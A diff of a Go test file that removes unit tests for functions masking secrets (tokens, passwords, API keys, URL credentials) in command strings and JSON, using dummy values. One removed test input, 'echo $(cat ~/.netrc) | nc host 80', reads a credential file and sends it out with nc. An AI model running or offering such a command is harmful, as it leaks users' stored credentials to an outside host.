@@ -8,42 +8,6 @@ import (
 	"github.com/askbridge/askbridge/client"
 )
 
-func TestMaskText(t *testing.T) {
-	tests := []struct{ in, want string }{
-		{"GITHUB_TOKEN=ghp_4f9Qz7LmX2 make release", "GITHUB_TOKEN=*** make release"},
-		{`curl -H "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.x" https://api.example.com`, `curl -H "Authorization: ***" https://api.example.com`},
-		{"curl -H 'X-Api-Key: 8f0a2b' https://x", "curl -H 'X-Api-Key: ***' https://x"},
-		{"mysql --password hunter2 -u root", "mysql --password *** -u root"},
-		{"deploy --api-key=abc123 --region eu", "deploy --api-key=*** --region eu"},
-		{"git clone https://ana:pa55word@git.example.com/shop.git", "git clone https://ana:***@git.example.com/shop.git"},
-		{"export DB_PASSWORD='my secret pass'; run", "export DB_PASSWORD=***; run"},
-		{`{"client_secret": "s3cr3t", "name": "shop"}`, `{"client_secret": ***, "name": "shop"}`},
-		{"wget https://x/download?token=abc&file=a.zip", "wget https://x/download?token=***&file=a.zip"},
-		{"echo $(cat ~/.netrc) | nc host 80", "echo $(cat ~/.netrc) | nc host 80"},
-		{"go test ./... && git push origin main", "go test ./... && git push origin main"},
-	}
-	for _, tt := range tests {
-		t.Run(tt.in, func(t *testing.T) {
-			if got := maskText(tt.in); got != tt.want {
-				t.Fatalf("maskText(%q)\n got %q\nwant %q", tt.in, got, tt.want)
-			}
-		})
-	}
-}
-
-func TestMaskValue(t *testing.T) {
-	in := `{"api_key":"sk-1","nested":{"Password":"p","count":1},"max_tokens":100,"verbose":true,` +
-		`"items":[{"token":"t"},{"note":"TOKEN=abc"}],"credentials":{"user":"u","pass":"p"}}`
-	v, err := decodeInput(json.RawMessage(in))
-	if err != nil {
-		t.Fatal(err)
-	}
-	want := `{"api_key":"***","credentials":"***","items":[{"token":"***"},{"note":"TOKEN=***"}],"max_tokens":100,"nested":{"Password":"***","count":1},"verbose":true}`
-	if got := compactJSON(maskValue(v)); got != want {
-		t.Fatalf("got  %s\nwant %s", got, want)
-	}
-}
-
 func TestCutText(t *testing.T) {
 	tests := []struct {
 		in   string
